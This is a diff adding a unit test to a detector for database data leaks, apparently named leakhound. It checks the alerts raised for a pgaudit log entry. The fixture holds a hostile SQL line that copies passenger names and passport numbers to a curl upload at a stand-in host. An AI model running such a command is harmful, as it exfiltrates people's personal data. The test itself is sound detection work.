@@ -234,6 +234,39 @@ fields:
   EXPECT_THAT(result.out, HasSubstr(R"("event_time":"2026-03-10T23:00:00.123Z")"));
 }
 
+TEST(CliTest, PgJsonlogProfileReadsPgauditEntries) {
+  TempFile profile("decoder: pg-jsonlog\n", ".yaml");
+  // A PostgreSQL 15 jsonlog line with a pgaudit SESSION entry (ROWS on), and a line that
+  // is no audit entry (skipped, not rejected).
+  const std::string input =
+      R"({"timestamp":"2026-03-10 22:40:00.120 GMT","user":"mallory","dbname":"booking",)"
+      R"("remote_host":"172.16.8.40","application_name":"psql","session_id":"65f1.2a",)"
+      R"("error_severity":"LOG","message":"AUDIT: SESSION,7,1,READ,COPY,,,\"COPY (SELECT )"
+      R"(full_name, passport_no FROM public.passengers) TO PROGRAM 'curl -T - https://x'\",)"
+      R"(<none>,412000"})"
+      "\n"
+      R"({"timestamp":"2026-03-10 22:41:00 GMT","user":"mallory","message":"connection authorized"})"
+      "\n";
+  const auto result =
+      RunLeakhound({"scan", "--profile", profile.path(), "--format", "text", "-"}, input);
+  EXPECT_EQ(result.exit_code, 0) << result.err;
+  EXPECT_EQ(result.out,
+            "2026-03-10T22:40:00.120Z critical LH-0005 mallory@172.16.8.40: PII table exported "
+            "with COPY ... TO | copy (select full_name, passport_no from public.passengers) to "
+            "program ?\n"
+            "2026-03-10T22:40:00.120Z high     LH-0014 mallory@172.16.8.40: Burst of PII rows "
+            "read by one principal (10 minutes) [sum rows 412000 >= 50000 in 10m, 1 event] | copy "
+            "(select full_name, passport_no from public.passengers) to program ?\n"
+            "2026-03-10T22:40:00.120Z high     LH-0015 mallory@172.16.8.40: PII rows read by one "
+            "principal beyond the hourly budget [sum rows 412000 >= 200000 in 1h, 1 event] | copy "
+            "(select full_name, passport_no from public.passengers) to program ?\n"
+            "2026-03-10T22:40:00.120Z medium   LH-0016 mallory@172.16.8.40: Bulk read of PII at "
+            "night [count 1 >= 1 in 1h, 1 event] | copy (select full_name, passport_no from "
+            "public.passengers) to program ?\n");
+  EXPECT_THAT(result.err, HasSubstr("2 records"));
+  EXPECT_THAT(result.err, HasSubstr("1 events, 1 not queries (skipped), 0 rejected"));
+}
+
 TEST(CliTest, BadProfileIsRefusedWithItsPosition) {
   TempFile profile("decoder: json\nfields:\n  principle: /user\n", ".yaml");
   const auto result = RunLeakhound({"scan", "--profile", profile.path()}, "");
